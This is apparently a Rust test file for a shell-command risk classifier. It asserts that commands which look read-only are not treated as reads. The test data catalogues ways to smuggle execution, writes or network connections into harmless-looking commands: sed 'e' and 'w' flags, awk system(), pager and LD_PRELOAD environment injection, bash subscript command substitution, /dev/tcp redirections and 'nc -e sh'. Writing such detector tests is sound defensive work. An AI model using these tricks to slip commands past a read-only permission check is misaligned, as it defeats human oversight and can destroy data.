//! What looks like reading and is not, or may not be: a read needs its program, its verb and every flag known.

use warroom::runbook::{Risk, risk};

fn none_reads(commands: &[&str]) {
    let reading: Vec<_> = commands.iter().filter(|command| risk::of(command) == Risk::Read).collect();
    assert!(reading.is_empty(), "these are no reads: {reading:#?}");
}

#[test]
fn a_script_inside_a_reader_is_read_too() {
    none_reads(&[
        "sed -n \"1e touch F\" f",
        "sed -n '1w F' G",
        "sed \"s/x/rm y/e\" f",
        "sed 's/x/y/w F' f",
        "sed 's/x/y/gW F' f",
        "sed -n '/x/,/y/{p;w F\n}' f",
        "sed -f script f",
        "sed --expression='1e x' f",
        "sed -e p -e '$!w F' f",
        "sed 's/[/]/e/e' f",
        "awk 'BEGIN{system(\"ls\")}'",
        "awk '{print > \"f\"}' x",
        "awk '{print | \"sort\"}' x",
        "awk 'BEGIN{\"ls\" | getline x}'",
        "awk -f x.awk y",
        "awk '@load \"x\"' y",
        "find . -exec ls {} ';' -exec touch {} ';'",
        "ls | xargs sed -n",
        "ls | xargs env",
    ]);
}

#[test]
fn an_operand_too_many_is_a_file_to_write() {
    none_reads(&[
        "uniq IN OUT",
        "uniq -c - OUT",
        "xxd IN OUT",
        "xxd -r f",
        "hostname new",
        "date 112203042026",
    ]);
}

/// Readers with a flag, or an operand, that makes them something else.
const NO_READERS: &[&str] = &[
    "git -c core.pager=sh log",
    "git -ccore.pager=sh log",
    "git --exec-path=/tmp log",
    "git -p log",
    "git --paginate log",
    "git --git-dir=/tmp/x log",
    "git log --output=F",
    "git grep -O x",
    "git grep -Oless x",
    "git grep --open-files-in-pager=less x",
    "git diff --ext-diff",
    "git show --textconv",
    "sort --compress-program=sh f",
    "sort --compress-prog=sh f",
    "sort -o f f",
    "sort --out=f f",
    "sort {-o,f} g",
    "rg --pre sh x",
    "rg --hostname-bin=sh x",
    "less +!touch f",
    "less +F f",
    "less -O f g",
    "more f",
    "helm template app --post-renderer ./x",
    "helm install app --dry-run --post-renderer ./x",
    "kubectl --kubeconfig F get pods",
    "kubectl --kubeconfig=F get pods",
    "kubectl get pods --profile=cpu --profile-output=f",
    "openssl x509 -in a -out F",
    "openssl x509 -engine ./e.so -in a",
    "terraform plan -out=F",
    "terraform providers lock",
    "amtool alert add x",
    "warroom slo new --out f",
    "dmidecode --dump-bin f",
    "dmidecode --dump-b f",
    "curl --trace f http://h",
    "curl -K f http://h",
    "curl -D f http://h",
    "curl -w '%output{f}' http://h",
    "curl gopher://h/x",
    "wget -qO- --use-askpass=./x http://h",
    "wget -qO- -o log http://h",
    "journalctl --vacuum-time=1d",
    "mount -a",
    "zpool status -c ./x",
    "iptables-save -f x",
    "ip -batch f",
    "ip netns exec x touch f",
    "ip addr add 192.0.2.1 dev lo",
    "ssh -o ProxyCommand=x h ls",
    "ssh -o 'ProxyCommand x' h ls",
    "rsync -e ./x --dry-run a b",
    "aws s3api get-object --bucket b --key k out",
    "taskset -p 3 1",
    "sudo -A ls",
    "kubectl exec x --dry-run=client touch f",
    "tar tf a.tar --to-command=sh",
    "tar tf a.tar -I sh",
    "tar tf a.tar --use-compress-program=sh",
    "tar -tf a.tar --checkpoint-action=exec=sh",
    "tar xf a.tar",
    "nginx",
    "nginx -s stop",
    "nft -f rules",
    "nc -l 80",
    "nc -z -e sh h 80",
];

#[test]
fn a_flag_that_nobody_knows_or_that_runs_and_writes_is_no_read() {
    none_reads(NO_READERS);
}

#[test]
fn a_variable_may_load_a_program() {
    none_reads(&[
        "PAGER=sh git log",
        "GIT_EXTERNAL_DIFF=x git diff",
        "GIT_DIR=x git log",
        "LESSOPEN='|sh' less f",
        "LESSCLOSE=x less f",
        "LESS=+!x less f",
        "MANPAGER=x ls",
        "EDITOR=x ls",
        "VISUAL=x ls",
        "KUBECONFIG=f kubectl get pods",
        "IFS=x ls",
        "PATH=/tmp ls",
        "LD_AUDIT=x ls",
        "BASH_ENV=f bash -c ls",
        "ENV=f sh -c ls",
        "PYTHONPATH=x ls",
        "PERL5LIB=x ls",
        "RUBYOPT=x ls",
        "NODE_OPTIONS=x ls",
        "AWS_CONFIG_FILE=f aws s3 ls",
        "WHATEVER=1 ls",
        "env LD_PRELOAD=x ls",
        "sudo PATH=x ls",
        "export PATH=/tmp:$PATH",
        "PATH=/tmp",
        "declare -x LD_PRELOAD=f",
        "printf -v PATH %s /tmp",
        "printf -vPATH %s /tmp",
        "read PATH",
        "builtin read PATH",
        "command export PATH=/tmp",
        "read -r IFS",
        "mapfile BASH_ENV",
        "unset PATH",
        "for PATH in a b; do ls; done",
        "declare -n x=PATH",
    ]);
}

#[test]
fn a_subscript_runs_what_it_substitutes_however_it_is_quoted() {
    for command in [
        "declare 'a[$(rm x)]=1'",
        "test -v 'a[$(rm x)]'",
        "[[ -v 'a[$(rm x)]' ]]",
        "echo $(( a[$(rm x)] ))",
        "printf -v 'a[$(rm x)]' y",
        "read 'a[`rm x`]'",
        "i='a[$(rm x)]'; echo $((i))",
        "export a\\[\\$\\(rm\\ x\\)\\]=1",
    ] {
        assert_eq!(risk::of(command), Risk::Destroy, "{command}");
    }
}

#[test]
fn a_redirection_may_connect() {
    none_reads(&["cat < /dev/tcp/h/1", "cat </dev/udp/h/1", "echo x > /dev/tcp/h/1", "exec 3<>/dev/tcp/h/1"]);
}

#[test]
fn a_select_that_calls_what_nobody_knows_is_no_read() {
    none_reads(&[
        "psql -c 'select some_function()'",
        "psql -c 'select 1, some_schema.count(1)'",
        "psql -c 'select \"count\"(1)'",
        "psql -c 'select pg_terminate_backend(1)'",
        "psql -c 'select pg_cancel_backend (1)'",
        "psql -c 'select pg_cancel_backend/**/(1)'",
        "psql -c 'select pg_cancel_backend-- max\n(1)'",
        "psql -c 'select pg_promote()'",
        "psql -c 'select pg_switch_wal()'",
        "psql -c 'select lo_unlink(1)'",
        "psql -c \"select setval('s', 1)\"",
        "psql -c \"select nextval('s')\"",
        "psql -c 'select 1 \\gexec'",
        "psql -c 'select 1 \\g f'",
        "psql -c '\\o f'",
        "psql -c '\\! ls'",
        "psql -c 'select 1' -c'update x set y=1'",
        "psql -o f -c 'select 1'",
        "psql -c 'select 1' -f g",
        "mysql --tee=f -e 'select 1'",
        "mysql -e \"select 1 into outfile 'f'\"",
        "mysql --pager=sh -e 'select 1'",
    ]);
}

#[test]
fn a_wrapper_is_only_as_harmless_as_its_own_words() {
    none_reads(&[
        "time -o f ls",
        "xargs -I{} sh -c 'echo {}'",
        "bash --rcfile f -c ls",
        "su -s /tmp/x -c ls",
        "kubectl exec --kubeconfig f x -- ls",
        "docker exec -e LD_PRELOAD=x web ls",
        "docker --config d exec web ls",
        "for x do touch f; done",
        "nft list ruleset ';' add table x",
        "gcloud compute instances frobnicate list",
        "gcloud compute instances list --flags-file=f",
        "psql -v 'q=pg_promote()' -c 'select 1'",
        "mysql -p --tee=f -e 'select 1'",
        "echo ${PATH:=x}",
        "read 'PATH[0]'",
        "declare 'PATH[0]=x'",
        "ls() { touch f; }; ls",
    ]);
    let worst = ["time -a rm x", "for x do rm y; done", "su me -c 'rm x'", "case $(rm x) in a) ls;; esac"];
    for command in worst {
        assert_eq!(risk::of(command), Risk::Destroy, "{command}");
    }
}
